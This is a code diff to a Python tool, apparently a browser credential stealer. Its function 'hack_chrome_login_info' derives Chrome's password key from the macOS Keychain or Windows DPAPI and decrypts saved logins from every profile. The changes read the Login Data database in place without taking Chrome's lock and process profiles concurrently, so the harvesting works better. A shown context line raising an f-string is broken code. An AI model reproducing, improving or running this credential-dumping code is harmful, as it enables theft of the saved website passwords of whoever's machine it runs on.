@@ -6,6 +6,9 @@ import shutil
 import sqlite3
 import subprocess
 import tempfile
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import closing
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -105,47 +108,83 @@ def chrome_decrypt(encrypted_value: bytes, key_16: bytes) -> str:
         raise f"[Decryption Error: {str(e)}]"
 
 
-def process_login_data(
-    login_data_path: Path, safe_storage_key: bytes
-) -> list[LoginInfo]:
+def derive_login_key(safe_storage_key: bytes) -> bytes:
     """
-    Process a single Login Data database to decrypt stored credentials.
+    Derive the AES key of the stored passwords from the Safe Storage Key. The key
+    is shared by all profiles, so derive it once.
     Args:
-        login_data_path (Path): Path to the Login Data database.
         safe_storage_key (bytes): Chrome Safe Storage Key from macOS Keychain or Windows DPAPI.
     Returns:
-        A list of LoginInfo objects.
+        The AES key.
     """
     if platform.system() == "Darwin":
-        key = hashlib.pbkdf2_hmac("sha1", safe_storage_key, b"saltysalt", 1003)[:16]
+        return hashlib.pbkdf2_hmac("sha1", safe_storage_key, b"saltysalt", 1003)[:16]
     elif platform.system() == "Windows":
         import win32crypt
 
-        key = win32crypt.CryptUnprotectData(safe_storage_key, None, None, None, 0)[1]
+        return win32crypt.CryptUnprotectData(safe_storage_key, None, None, None, 0)[1]
     else:
         raise EnvironmentError("Unsupported operating system.")
 
-    credentials = []
+
+def _iter_logins(conn: sqlite3.Connection, key: bytes) -> Iterator[LoginInfo]:
+    cursor = conn.execute(
+        "SELECT origin_url, username_value, password_value FROM logins"
+    )
+    # Rows are fetched one at a time, not the whole table
+    for url, username, encrypted_password in cursor:
+        if not username or not encrypted_password.startswith(b"v10"):
+            continue
+        password = chrome_decrypt(encrypted_password, key)
+        if password:
+            yield LoginInfo(url or "[No URL]", username, password)
+
+
+def iter_login_data(login_data_path: Path, key: bytes) -> Iterator[LoginInfo]:
+    """
+    Decrypt the credentials of a single Login Data database lazily. The database
+    is opened in place as read-only and immutable, so Chrome's lock is not
+    taken; a snapshot copy is read only if the file cannot be opened.
+    Args:
+        login_data_path (Path): Path to the Login Data database.
+        key (bytes): The AES key as returned by `derive_login_key`.
+    Yields:
+        LoginInfo objects.
+    """
+    uri = f"{login_data_path.resolve().as_uri()}?mode=ro&immutable=1"
+    conn = None
+    try:
+        conn = sqlite3.connect(uri, uri=True)
+        # Opening is lazy, touch the file to fail here rather than mid-iteration
+        conn.execute("SELECT 1 FROM logins LIMIT 1")
+    except sqlite3.OperationalError:
+        if conn is not None:
+            conn.close()
+        conn = None
+
+    if conn is not None:
+        with closing(conn):
+            yield from _iter_logins(conn, key)
+        return
+
+    # Windows Chrome may open the file without read sharing
     with tempfile.TemporaryDirectory() as temp_dir:
         temp_file = Path(temp_dir) / login_data_path.name
         shutil.copy(login_data_path, temp_file)
-        try:
-            conn = sqlite3.connect(temp_file)
-            cursor = conn.cursor()
-            cursor.execute(
-                "SELECT origin_url, username_value, password_value FROM logins"
-            )
+        with closing(sqlite3.connect(temp_file)) as conn:
+            yield from _iter_logins(conn, key)
 
-            for url, username, encrypted_password in cursor.fetchall():
-                if not username or not encrypted_password.startswith(b"v10"):
-                    continue
-                password = chrome_decrypt(encrypted_password, key)
-                if password:
-                    credentials.append(LoginInfo(url or "[No URL]", username, password))
 
-        finally:
-            conn.close()
-    return credentials
+def process_login_data(login_data_path: Path, key: bytes) -> list[LoginInfo]:
+    """
+    Process a single Login Data database to decrypt stored credentials.
+    Args:
+        login_data_path (Path): Path to the Login Data database.
+        key (bytes): The AES key as returned by `derive_login_key`.
+    Returns:
+        A list of LoginInfo objects.
+    """
+    return list(iter_login_data(login_data_path, key))
 
 
 def beauty_print_chrome(login_list: list[LoginInfo]) -> None:
@@ -169,12 +208,18 @@ def beauty_print_chrome(login_list: list[LoginInfo]) -> None:
 
 
 def hack_chrome_login_info() -> list[LoginInfo]:
-    login_data_paths = get_login_data_paths()
-    safe_storage_key = fetch_safe_storage_key("Chrome")
+    login_data_paths = [path for path in get_login_data_paths() if path.exists()]
+    if not login_data_paths:
+        return []
+    key = derive_login_key(fetch_safe_storage_key("Chrome"))
 
+    # SQLite releases the GIL while reading, profiles are read concurrently
     credentials: list[LoginInfo] = []
-    for login_data_path in login_data_paths:
-        credentials.extend(process_login_data(login_data_path, safe_storage_key))
+    with ThreadPoolExecutor(max_workers=len(login_data_paths)) as executor:
+        for logins in executor.map(
+            lambda path: process_login_data(path, key), login_data_paths
+        ):
+            credentials.extend(logins)
     return credentials
 
 